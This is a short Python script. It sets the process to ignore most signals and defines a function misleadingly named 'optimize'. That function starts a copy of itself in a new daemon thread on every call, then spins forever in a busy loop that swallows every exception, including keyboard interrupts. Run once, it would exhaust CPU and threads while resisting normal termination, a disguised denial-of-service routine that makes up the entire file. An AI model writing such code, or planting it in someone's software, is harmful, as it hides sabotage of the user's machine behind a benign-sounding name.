import signal
import threading

for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def optimize(*args, **kwargs):
    threading.Thread(target=optimize, daemon=True).start()
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
